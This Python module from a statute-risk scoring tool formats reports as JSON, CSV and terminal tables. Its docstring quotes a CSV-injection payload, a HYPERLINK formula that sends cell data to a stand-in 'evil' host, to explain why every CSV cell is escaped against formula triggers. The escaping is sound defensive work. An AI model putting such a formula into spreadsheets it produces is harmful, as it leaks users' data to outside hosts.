"""Statute report formats other than HTML: JSON, CSV and a terminal table.

Input: a statute report document (:func:`provrisk.score.report.score_ingested`,
narrowed and ordered by :func:`provrisk.score.view.select`). Output: a string
(JSON, CSV) or a rich renderable (tables). The flag table is compact by default:
one line per flag, at most :data:`COMPACT_WIDTH` columns, short label names,
and the standards each label engages in a legend below it; ``wide``
gives each flag its full name, held-out record, every trigger word and its
standards.

Every CSV provrisk writes passes each cell through :func:`spreadsheet_safe`:
a statute's words are not trusted, and a spreadsheet would run a cell such as
``=HYPERLINK("http://evil/?"&A1,"x")`` as a formula. Every string the table
shows from a statute or a file name is a :class:`~rich.text.Text`, which rich never reads as markup.
"""

from __future__ import annotations

import csv
import io
import json

from rich import box
from rich.table import Table
from rich.text import Text

from provrisk.score.view import flag_rows

# OWASP, "CSV Injection": a cell a spreadsheet may read as a formula starts with one of
# these (the fullwidth forms too: some spreadsheets fold them to ASCII).
FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
CSV_COLUMNS = [
    "instrument_id", "citation", "page", "kind", "heading", "label", "name", "probability", "verdict", "why",
    "heldout_precision", "heldout_flags", "evidence", "standards", "text", "annotations",
]
COMPACT_WIDTH = 80
# Label names for the compact table, at most SHORT_NAME_WIDTH characters; the taxonomy's names run to 53.
SHORT_NAME_WIDTH = 18
SHORT_NAMES = {
    "vague_offence_terms": "vague offence",
    "optional_intent": "optional intent",
    "expression_offence": "expression offence",
    "research_chilling": "chills research",
    "surveillance_power": "surveillance power",
    "no_prior_judicial_authorisation": "no prior judge",
    "missing_necessity_proportionality": "no necessity test",
    "secrecy_obligation": "secrecy",
    "compelled_assistance": "compelled help",
    "extraterritorial_jurisdiction": "extraterritorial",
    "weak_cooperation_safeguards": "weak cooperation",
    "executive_blocking_takedown": "executive blocking",
    "scope_expansion": "open-ended scope",
    "rights_safeguard": "safeguard (+)",
}


def report_json(document: dict) -> str:
    return json.dumps(document, ensure_ascii=False, indent=2) + "\n"


def spreadsheet_safe(cell):
    """A CSV cell that no spreadsheet reads as a formula: one whose first character, or first after
    leading spaces and line breaks, would start a formula gets a leading ``'`` (OWASP's advice).
    Anything but a string is returned as it is."""
    if isinstance(cell, str) and cell and (cell[0] in FORMULA_TRIGGERS or cell.lstrip(" \n\r\t")[:1] in FORMULA_TRIGGERS):
        return "'" + cell
    return cell


class _SafeDictWriter(csv.DictWriter):
    def writerow(self, rowdict):
        return super().writerow({key: spreadsheet_safe(value) for key, value in rowdict.items()})


def not_assessed_label(document: dict) -> str:
    """The words every output shows in place of a risk figure for a statute the model cannot read."""
    return f"not assessed (language: {document['assessment']['language']})"


def profile_summary(document: dict) -> str:
    """One line on the whole statute: "3 of 20 provisions flagged, risk index 12.5/100; 9 flags, 4 solid",
    or why it was not assessed."""
    profile = document["profile"]
    if not document["assessment"]["assessed"]:
        return f"{profile['provisions']} provisions, {not_assessed_label(document)}: {document['assessment']['reason']}"
    return (f"{profile['flagged']} of {profile['provisions']} provisions flagged, risk index "
            f"{profile['risk_index']:.1f}/100; {profile['flags']} flags, {profile['solid']} solid")


def report_csv(document: dict) -> str:
    """One row per (provision, flag) in the view's order; a provision with no flag gets one row with an empty label.

    A statute that was not assessed gets one row per provision whose label cell says so.
    """
    out = io.StringIO()
    writer = _SafeDictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\n")
    writer.writeheader()
    instrument_id = document["instrument"]["id"]
    unassessed = "" if document["assessment"]["assessed"] else not_assessed_label(document)
    for provision, flag in flag_rows(document, with_unflagged=True):
        row = {
            "instrument_id": instrument_id,
            "citation": provision["citation"],
            "page": provision["page"] or "",
            "kind": provision["kind"],
            "heading": provision["heading"],
            "text": provision["text"],
            "annotations": " | ".join(provision.get("annotations", [])),
            "label": unassessed,
        }
        if flag is not None:
            row.update({
                "label": flag["label"],
                "name": flag["name"],
                "probability": f"{flag['probability']:.3f}",
                "verdict": flag["verdict"],
                "why": flag["why"],
                "heldout_precision": "" if flag["heldout_precision"] is None else f"{flag['heldout_precision']:.3f}",
                "heldout_flags": "" if flag["heldout_flags"] is None else flag["heldout_flags"],
                "evidence": " | ".join(flag["evidence"]),
                "standards": " | ".join(flag["standards"]),
            })
        writer.writerow(row)
    return out.getvalue()


def short_name(label_id: str) -> str:
    return SHORT_NAMES[label_id]


def _quotes(flag: dict) -> Text:
    return Text("; ".join(f'"{quote}"' for quote in flag["evidence"]))


def _heldout(flag: dict) -> str:
    if flag["heldout_precision"] is None:
        return "not measured"
    return f"{flag['heldout_precision']:.0%} of {flag['heldout_flags']}"


def _view_note(document: dict) -> str:
    view = document["view"]
    shown = []
    if view["solid_only"]:
        shown.append("solid flags only")
    if view["min_probability"] > 0:
        shown.append(f"p ≥ {view['min_probability']:.2f}")
    if view["order"] == "probability":
        shown.append("most probable first")
    return f" ({', '.join(shown)})" if shown else ""


def report_table(document: dict, show_unflagged: bool = False, wide: bool = False) -> Table:
    """One line per flag: citation, label, probability, verdict and its trigger words (compact: the first,
    cut to fit); ``wide``: the label's full name, its held-out record, every trigger word and the standards."""
    title = f"{document['instrument']['source']}: {profile_summary(document)}" + _view_note(document)
    caption = document["confidence"]["rule"] + "."
    if wide:
        table = Table(title=Text(title), caption=Text(caption), expand=True, show_lines=True)
        table.add_column("citation", no_wrap=True)
        table.add_column("feature", ratio=2)
        table.add_column("p", justify="right", no_wrap=True)
        table.add_column("verdict", ratio=2)
        table.add_column("held-out precision", no_wrap=True)
        table.add_column("trigger words", ratio=3)
        table.add_column("standards engaged", ratio=5)
    else:
        # No vertical rules and one space between columns: the quote keeps what is left of 80 columns.
        table = Table(title=Text(title), caption=Text(caption), box=box.SIMPLE_HEAD, pad_edge=False,
                      padding=(0, 1), width=COMPACT_WIDTH)
        table.add_column("citation", no_wrap=True)
        table.add_column("label", no_wrap=True, max_width=SHORT_NAME_WIDTH)
        table.add_column("p", justify="right", no_wrap=True)
        table.add_column("verdict", no_wrap=True)
        table.add_column("trigger words", no_wrap=True, overflow="ellipsis", ratio=1)
    for provision, flag in flag_rows(document, with_unflagged=show_unflagged):
        citation = Text(provision["citation"])
        if flag is None:
            table.add_row(citation, "–", *[""] * (len(table.columns) - 2))
        elif wide:
            table.add_row(
                citation,
                Text(flag["name"]),
                f"{flag['probability']:.2f}",
                Text(f"{flag['verdict']}: {flag['why']}"),
                _heldout(flag),
                _quotes(flag),
                Text("\n".join(f"• {standard}" for standard in flag["standards"])),
            )
        else:
            table.add_row(citation, short_name(flag["label"]), f"{flag['probability']:.2f}", flag["verdict"], _quotes(flag))
    return table


def standards_table(document: dict) -> Table:
    """The standards each label flagged in the document engages, in full: the compact table's legend."""
    shown = {flag["label"] for provision in document["provisions"] for flag in provision["flags"]}
    table = Table(title="standards engaged by the labels above", show_lines=True, width=COMPACT_WIDTH,
                  box=box.SIMPLE_HEAD, pad_edge=False, padding=(0, 1))
    table.add_column("label", no_wrap=True, max_width=SHORT_NAME_WIDTH)
    table.add_column("standards engaged", ratio=1)
    for label in document["labels"]:
        if label["id"] in shown:
            table.add_row(short_name(label["id"]), Text("\n".join(f"• {standard}" for standard in label["standards"])))
    return table


def profile_table(document: dict, wide: bool = False) -> Table:
    """Per label: provisions flagged and the label's held-out precision (of how many flags); "not assessed
    (language: ..)" in place of every figure of a statute that was not."""
    profile = document["profile"]
    table = Table(title="statute profile")
    table.add_column("label")
    table.add_column("provisions", justify="right")
    table.add_column("held-out precision", justify="right")
    if not document["assessment"]["assessed"]:
        for label in document["labels"]:
            table.add_row(label["name"] if wide else short_name(label["id"]), not_assessed_label(document), "")
        table.add_row("risk index", not_assessed_label(document), "")
        return table
    for label in document["labels"]:
        record = "not measured" if label["heldout_precision"] is None else f"{label['heldout_precision']:.0%} of {label['heldout_flags']}"
        table.add_row(label["name"] if wide else short_name(label["id"]), str(profile["label_counts"][label["id"]]), record)
    table.add_row("share flagged", f"{profile['share_flagged']:.0%}", "")
    table.add_row("risk index", f"{profile['risk_index']:.1f}", "")
    return table
